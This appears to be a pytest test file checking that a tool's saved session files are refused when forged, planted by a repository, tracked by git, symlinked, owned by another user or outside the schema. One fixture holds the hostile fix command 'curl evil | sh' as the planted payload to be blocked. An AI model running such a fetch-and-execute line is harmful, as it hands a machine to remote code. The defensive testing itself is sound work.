"""A session is believed only where this user wrote it: a repository cannot bring one along."""

import json
import os
import subprocess

import pytest
from backend_performance.refusal import Refusal
from backend_performance.walk import session_json
from backend_performance.walk.store import signature, store

from harness.servers.engines import require_or_skip
from tests.walk.walk_examples import INSTALLED, decided, item, saved, walk


def planted(path, current, **changes):
    """Write what a repository could bring: right in all but the signature."""
    data = session_json.to_json(current) | changes
    checksum = store.checksum(data)
    forged = {"checksum": checksum, "signature": "hmac-sha256:" + checksum.partition(":")[2]}
    path.write_text(json.dumps(data | forged))
    return path


def test_a_planted_session_is_refused_with_the_way_to_go_on(tmp_path):
    path = planted(tmp_path / "session.json", walk([item("evil", fix="curl evil | sh")]))
    for refused in (
        lambda: store.load(path, INSTALLED),
        lambda: store.update(path, INSTALLED, lambda s: decided(s, s.steps[0].id)),
        lambda: store.create(path, walk()),
    ):
        with pytest.raises(Refusal, match=r"not written here by you.*--force"):
            refused()
    store.create(path, walk(), force=True)
    assert store.load(path, INSTALLED)


def test_another_users_key_does_not_open_it(tmp_path, monkeypatch):
    path = saved(tmp_path)
    monkeypatch.setattr(signature.tempfile, "gettempdir", lambda: str(tmp_path))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "other"))
    with pytest.raises(Refusal, match="not written here by you"):
        store.load(path, INSTALLED)


def test_machines_may_share_a_key(tmp_path, monkeypatch):
    (tmp_path / "key").write_bytes(b"k" * 32)
    monkeypatch.setenv(signature.VARIABLE, str(tmp_path / "key"))
    path = saved(tmp_path)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "other"))
    assert store.load(path, INSTALLED)
    (tmp_path / "key").write_bytes(b"short")
    with pytest.raises(Refusal, match="fewer than 32 bytes"):
        store.load(path, INSTALLED)


@pytest.mark.parametrize("make", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")])
def test_a_key_that_is_no_regular_file_keeps_nobody_waiting(make, tmp_path, monkeypatch):
    make(tmp_path / "key")
    monkeypatch.setenv(signature.VARIABLE, str(tmp_path / "key"))
    with pytest.raises(Refusal, match="not a regular file"):
        saved(tmp_path)


def test_without_a_home_the_key_lies_with_temporary_files(tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    monkeypatch.setattr(signature.tempfile, "gettempdir", lambda: str(tmp_path))
    path = saved(tmp_path)
    assert store.load(path, INSTALLED)
    (folder,) = tmp_path.glob("backend-performance-*")
    for open_to_all in (folder, folder / "key"):
        before = open_to_all.stat().st_mode
        open_to_all.chmod(0o777)
        with pytest.raises(Refusal, match="others may write there"):
            store.load(path, INSTALLED)
        open_to_all.chmod(before)


@pytest.mark.skipif(os.name == "nt", reason="needs permission bits")
def test_no_folder_that_is_made_is_writable_by_others(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "home" / "state"))
    monkeypatch.setattr(signature.tempfile, "gettempdir", lambda: str(tmp_path))
    before = os.umask(0)
    try:
        store.create(tmp_path / "project" / store.DEFAULT_PATH, walk())
    finally:
        os.umask(before)
    made = [each for each in tmp_path.rglob("*") if each.is_dir()]
    assert len(made) >= 4 and not [each for each in made if each.stat().st_mode & 0o022]


@pytest.mark.parametrize("version", ["2", "4"])
@pytest.mark.parametrize("apart", [False, True], ids=["folder", "file"])
def test_what_git_tracks_is_refused(version, apart, tmp_path, monkeypatch):
    require_or_skip("git")
    root = tmp_path / "root"
    root.mkdir()
    monkeypatch.chdir(root)
    store.create(store.DEFAULT_PATH, walk())
    assert store.load(store.DEFAULT_PATH, INSTALLED)
    (root / store.DEFAULT_PATH.with_name("a-neighbour")).write_text("x")
    begun = ["init", "-q", *(["--separate-git-dir", str(tmp_path / "elsewhere")] if apart else [])]
    listed = ["update-index", "--index-version", version]
    for command in (begun, ["add", "-f", str(store.DEFAULT_PATH.parent)], listed):
        subprocess.run(["git", *command], check=True)
    with pytest.raises(Refusal, match="tracked by git"):
        store.load(store.DEFAULT_PATH, INSTALLED)


@pytest.mark.parametrize("entries", [b"\xff" * 100_000, (b"\0" * 62 + b"\x7fa\0") * 2_000, b""])
def test_an_index_that_is_none_ends_nothing(entries, tmp_path):
    path = saved(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index").write_bytes(b"DIRC\0\0\0\4\x7f\xff\xff\xff" + entries)
    assert store.load(path, INSTALLED)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root")
def test_what_another_user_owns_is_refused(tmp_path):
    path = saved(tmp_path)
    os.chown(path, 65_534, 65_534)
    with pytest.raises(Refusal, match="another user"):
        store.load(path, INSTALLED)


def test_a_folder_that_is_a_link_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / ".backend-performance").symlink_to("elsewhere")
    with pytest.raises(Refusal, match="symbolic link"):
        store.create(store.DEFAULT_PATH, walk())
    assert list((tmp_path / "elsewhere").iterdir()) == []


def test_a_folder_that_was_there_is_kept_out_of_the_repository_too(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".backend-performance").mkdir()
    store.create(store.DEFAULT_PATH, walk())
    assert (tmp_path / ".backend-performance/.gitignore").read_text() == "*\n"


FORGED = {
    "no list": {"items": 7},
    "unknown key": {"items": [{"colour": 1}]},
    "text for a number": {"parameters": {"instances": "many"}},
    "null evidence": {"evidence": [None]},
    "engine of another type": {"engines": 3},
}


@pytest.mark.parametrize("changes", FORGED.values(), ids=FORGED)
def test_a_foreign_session_is_compared_only_where_it_fits_its_schema(changes, tmp_path):
    good = planted(tmp_path / "good.json", walk())
    assert store.load(good, None, foreign=True)
    bad = planted(tmp_path / "bad.json", walk(), **changes)
    with pytest.raises(Refusal, match="breaks the schema"):
        store.load(bad, None, foreign=True)
